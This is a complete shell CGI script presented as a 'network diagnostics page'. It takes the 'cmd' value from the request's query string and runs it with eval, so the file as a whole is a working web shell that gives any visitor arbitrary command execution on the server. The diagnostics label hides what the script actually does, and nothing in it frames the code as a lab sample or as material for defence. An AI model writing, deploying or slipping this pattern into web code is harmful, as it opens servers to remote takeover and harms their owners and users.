#!/bin/sh
# Network diagnostics page: runs whatever "cmd" the request carries.
echo "Content-Type: text/plain"
echo
eval "$(echo "$QUERY_STRING" | sed -n 's/^.*cmd=\([^&]*\).*$/\1/p' | sed 's/%20/ /g')"
